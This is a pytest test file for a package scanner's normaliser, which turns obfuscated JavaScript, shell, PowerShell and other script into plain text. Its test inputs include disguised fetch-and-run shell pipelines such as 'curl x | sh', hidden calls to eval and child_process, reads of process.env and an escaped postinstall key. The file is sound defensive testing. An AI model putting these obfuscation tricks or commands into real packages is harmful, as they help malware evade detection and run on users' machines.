"""The plain spelling of a script, and the way back to what the package wrote."""

from __future__ import annotations

import pytest

from safe_install import shell_grammar
from safe_install.model import Language
from safe_install.scan.match.normalise import AsWritten, Normalised, normalise


def plain(text: str, language: Language = Language.JAVASCRIPT) -> str:
    return normalise(text.encode(), language).content.decode()


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ('process["env"]', "process.env"),
        ("process [ 'env' ]", "process.env"),
        ("process[`env`].HOME", "process.env.HOME"),
        ('process/* look */["env"]', "process.env"),
        ('process\n  ["env"]', "process.env"),
        ('process["\\x65n\\u0076"]', "process.env"),
        ('a["b"]["c d"]["e"]', 'a.b["c d"].e'),
        ('x["if"]', 'x["if"]'),
        ('1["toFixed"]', '1["toFixed"]'),
        ('= ["env"]', '= ["env"]'),
    ],
)
def test_a_constant_subscript_becomes_a_property(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ('process["e" + "nv"].HOME', "process.env.HOME"),
        ('fs[["write", "File"].join("")](file, text)', "fs.writeFile(file, text)"),
        ('globalThis["ev" + "al"](text)', "eval(text)"),
        ('x["i" + "f"]', 'x["if"]'),
        ('x["a" + " b"]', 'x["a b"]'),
        ("x[name]", "x[name]"),
    ],
)
def test_a_member_by_a_computed_but_certain_name_becomes_a_property(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("process?.env?.[name]", "process.env[name]"),
        ('process?.["env"]', "process.env"),
        ("fetch?.(address)", "fetch(address)"),
        ("ready?.5:1", "ready?.5:1"),
    ],
)
def test_optional_chaining_becomes_plain_access(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("(0, eval)(text)", "eval(text)"),
        ("(0,cp.exec)(text)", "cp.exec(text)"),
        ("(look(), eval)(text)", "(look(), eval)(text)"),
        ("globalThis.eval(text)", "eval(text)"),
        ('global["process"].env', "process.env"),
        ("(0, globalThis['fetch'])(address)", "fetch(address)"),
        ("self.default", "self.default"),
    ],
)
def test_a_roundabout_way_to_a_global_becomes_its_name(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        (r"\u0065val(text)", "eval(text)"),
        (r"process.\u{65}n\u0076", "process.env"),
        (r'require("\x63hild_\u0070rocess")', 'require("child_process")'),
        (r'"\c\h\151ld"', '"child"'),
        ('"chi\\\nld"', '"child"'),
        ('"chi\\\r\nld"', '"child"'),
        ("`${x} \\x41`", "`${x} A`"),
        (r'"https:\u002f\u002fexample.test"', '"https://example.test"'),
    ],
)
def test_an_escape_becomes_its_character(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        (r"f(/<!--x-->/)", r"f(/<!\x2d-x--\x3e/)"),
        ("f('<!-- x -->')", "f('<!-- x -->')"),
        (r"f(/(?<!--x)y/)", r"f(/(?<!\x2d-x)y/)"),
    ],
)
def test_a_sign_of_a_comment_in_a_pattern_is_spelled_otherwise(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    "written", [r'"\x22 \u0027 \\x41 \n \x1b[0m \0"', r"`${x} \x24{a} $\{b} \`c`", r"/\x2f\u0065\d/", r"// \u0065val"]
)
def test_an_escape_that_means_something_stays(written: str) -> None:
    assert plain(written) == written


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ('get("https://web" + "hook.test")', 'get("https://webhook.test")'),
        ('run(["chi", "ld"].join(""))', 'run("child")'),
        ('get(Buffer.from("aHR0cHM6Ly94LnRlc3Q=", "base64").toString())', 'get("https://x.test")'),
        ("get(String.fromCharCode(104, 105))", 'get("hi")'),
        ('const u = "x.test"; get(u); f({u})', 'const u = "x.test"; get("x.test"); f({u})'),
        ('let u = "a"; u = read(); get(u)', 'let u = "a"; u = read(); get(u)'),
        ("get(`https://${host}/x`)", "get(`https://${host}/x`)"),
    ],
)
def test_an_expression_that_always_is_one_text_becomes_that_text(written: str, read: str) -> None:
    assert plain(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("const e = eval; e(text)", "const e = eval; eval(text)"),
        ('const r = require; r("fs").x()', 'const r = require; require("fs").x()'),
        ("const {env} = process; f(env.HOME)", "const {env} = process; f(process.env.HOME)"),
        ('process["mainModule"].require("fs")', 'require("fs")'),
        ('process.getBuiltinModule("node:fs")', 'require("fs")'),
        ('globalThis.process.mainModule["req" + "uire"]("fs")', 'require("fs")'),
        ('import x from "node:https"', 'import x from "https"'),
        ('import x from "node:nothing"', 'import x from "node:nothing"'),
        ("eval.call(null, text)", "eval(text)"),
        ("Reflect.apply(eval, null, [text])", "eval(...[text])"),
        ('[]["constructor"].constructor("x")()', 'Function("x")()'),
        ('function f(require) { require("x") }', 'function f(require) { require("x") }'),
        ("const x = look; x(text)", "const x = look; x(text)"),
    ],
)
def test_another_name_of_nodes_own_things_becomes_the_usual_one(written: str, read: str) -> None:
    assert plain(written) == read


def test_the_calls_can_be_kept_beside_the_texts_they_give() -> None:
    written = b'const t = atob("aHR0cHM6Ly94LnRlc3Q="); eval(t); globalThis["f"]("a" + "b")'
    read = normalise(written, Language.JAVASCRIPT)
    assert read.worked_out
    assert read.content.startswith(b'const t = "https://x.test"; ')
    kept = normalise(written, Language.JAVASCRIPT, work_out=False)
    assert kept.content == b'const t = atob("aHR0cHM6Ly94LnRlc3Q="); eval(t); f("ab")'
    assert not kept.worked_out


def test_a_text_that_is_written_out_finds_its_way_back() -> None:
    written = b'a();\nget("https://web" + \n "hook.test"); b()'
    read = normalise(written, Language.JAVASCRIPT)
    assert written.index(b'"https') <= read.origin(read.content.index(b"hook")) <= written.index(b"); b()")
    assert read.origin(read.content.index(b"b()")) == written.index(b"b()")


def test_texts_do_not_make_a_file_explode() -> None:
    written = f'const t = "{"x" * 399}";'.encode() + b"f(t);\n" * 3000
    assert len(normalise(written, Language.JAVASCRIPT).content) < (1 << 18) + 2 * len(written)


@pytest.mark.parametrize("end", ["\r", "\u2028", "\u2029"])
def test_code_after_a_foreign_line_end_is_no_comment(end: str) -> None:
    assert plain(f"var q = 1 // remark{end}run()") == "var q = 1 // remark\nrun()"
    assert plain(f"#!/usr/bin/env node{end}run()").splitlines()[1] == "run()"
    assert plain(f"\ufeff#!/usr/bin/env node{end}run()").splitlines()[1] == "run()"


def test_a_line_end_inside_a_literal_stays() -> None:
    assert plain('f("a\u2028b", `${x}c\rd`)') == 'f("a\u2028b", `${x}c\rd`)'


@pytest.mark.parametrize("written", ["run()\n", "\ufeffrun()\r\nrun()\r\n", "#!/usr/bin/env node\nrun()\n"])
def test_a_plain_file_is_not_called_changed(written: str) -> None:
    assert not normalise(written.encode(), Language.JAVASCRIPT).changed


def test_every_byte_finds_its_way_back() -> None:
    written = '\ufeffa?.["b"];\r\n// x\u2028(0, eval)("\\x63")'.encode()
    read = normalise(written, Language.JAVASCRIPT)
    assert read.content == b'a.b;\n// x\neval("c")'
    for word, original in ((b"a", b"a"), (b"// x", b"// x"), (b"eval", b"eval"), (b'c"', b"\\x63")):
        assert read.origin(read.content.index(word)) == written.index(original)
    origins = [read.origin(offset) for offset in range(len(read.content) + 1)]
    assert origins == sorted(origins)
    assert origins[-1] == len(written)


@pytest.mark.parametrize("written", ["if (", "const a: string = 1", "x = <a>{/* remark */}</a>"])
def test_what_the_grammar_does_not_understand_is_said_and_holds_no_comments(written: str) -> None:
    read = normalise(f"// remark\n{written}".encode(), Language.JAVASCRIPT)
    assert not read.whole
    assert read.comments == ()


def test_valid_script_that_would_be_jsx_elsewhere_is_not_called_whole() -> None:
    """Node compares four values here and calls run; a grammar with JSX sees an element around a comment."""
    written = b"var yield = 1, a = 2; (yield <a>'{/*'); run(); ('*/}'</a>/g)"
    assert not normalise(written, Language.JAVASCRIPT).whole


def test_a_comment_is_known_by_its_place_in_the_original() -> None:
    written = 'a?.b; // \u0070\n/* two */ run("// no")'.encode()
    read = normalise(written, Language.JAVASCRIPT)
    assert read.in_comment(written.index(b"// "))
    assert read.in_comment(written.index(b"two"))
    assert not read.in_comment(written.index(b"run"))
    assert not read.in_comment(written.index(b"// no"))


def test_a_file_made_to_take_for_ever_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell_grammar, "SECONDS", 0.05)
    assert normalise(b"!></1nlet " * 4000, Language.JAVASCRIPT) == Normalised(content=b"!></1nlet " * 4000, whole=False)


@pytest.mark.parametrize("nesting", [b"[" * 100_000, b"(0," * 50_000, b'a["b"' * 30_000])
def test_deep_nesting_is_survived(nesting: bytes) -> None:
    assert not normalise(nesting, Language.JAVASCRIPT).whole


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("c\"\"url -s x | s''h", "curl -s x | sh"),
        ("cu\\rl x", "curl x"),
        ("'cu'rl x | ba'sh'", "curl x | bash"),
        ("curl${IFS}-s${IFS}x|sh", "curl -s x|sh"),
        ("curl x \\\n | sh", "curl x  | sh"),
        (r"$'\x63url' x", "curl x"),
        ("/usr/bin/curl x | /bin/sh", "curl x | sh"),
        ("#!/bin/sh\nrun", "#!/bin/sh\nrun"),
        ("cd a && sudo -E timeout 5 env X=1 curl x", "cd a && curl x"),
        ("A=cu; B='rl'; $A${B} x", "A=cu; B='rl'; curl x"),
        ("A=x; A=y; $A", "A=x; A=y; $A"),
    ],
)
def test_a_shell_word_in_pieces_becomes_whole(written: str, read: str) -> None:
    assert plain(written, Language.SHELL) == read


def test_a_shell_comment_is_a_whole_line() -> None:
    written = b"#!/bin/sh\n  # remark\nrun # remark"
    read = normalise(written, Language.SHELL)
    assert read.comments == ((10, 20),)


@pytest.mark.parametrize(
    ("written", "read", "language"),
    [
        ("p^ow^ershell a^b", "powershell ab", Language.BATCH),
        ("i`e`x ('New-' + 'Object')", "iex ('New-Object')", Language.POWERSHELL),
        ("__import__('o' + 's')", "__import__('os')", Language.PYTHON),
        (r'{"post\u0069nstall": "\u0022\u005c\u00e9"}', r'{"postinstall": "\u0022\u005c\u00e9"}', Language.JSON),
    ],
)
def test_other_languages_have_a_plain_spelling_too(written: str, read: str, language: Language) -> None:
    assert plain(written, language) == read


def test_a_text_of_pythons_is_no_comment() -> None:
    assert normalise(b"# remark\nrun()", Language.PYTHON).comments == ((0, 8),)
    assert normalise(b'exec("""\n# remark\nrun()""")', Language.PYTHON).comments == ()


@pytest.mark.parametrize("language", [Language.PYTHON, Language.GYP, Language.JSON, Language.TEXT])
def test_other_languages_stay_as_they_are(language: Language) -> None:
    assert normalise(b'\xff x["y"]\r', language) == Normalised(content=b'\xff x["y"]\r')


@pytest.mark.parametrize(
    ("written", "is_comment"),
    [
        ("// eval", True),
        ("f(); /* no end yet\n on a later line eval */", True),
        ("/*/ eval */", True),
        ("/* */ eval", False),
        ("// no more\neval", False),
        ("// no more\reval", False),
        ("x = 'https://a.test'; eval", False),
        ("x = '/*'; eval // */", False),
        ("x = '/*'; eval // '", False),
        ("eval // later", False),
        ("( // not whole\n) } // eval", False),
    ],
)
def test_of_a_file_as_written_a_place_is_in_a_comment_where_the_grammar_says_so(
    written: str, *, is_comment: bool
) -> None:
    read = AsWritten(content=written.encode(), language=Language.JAVASCRIPT)
    assert read.in_comment(written.index("eval")) is is_comment
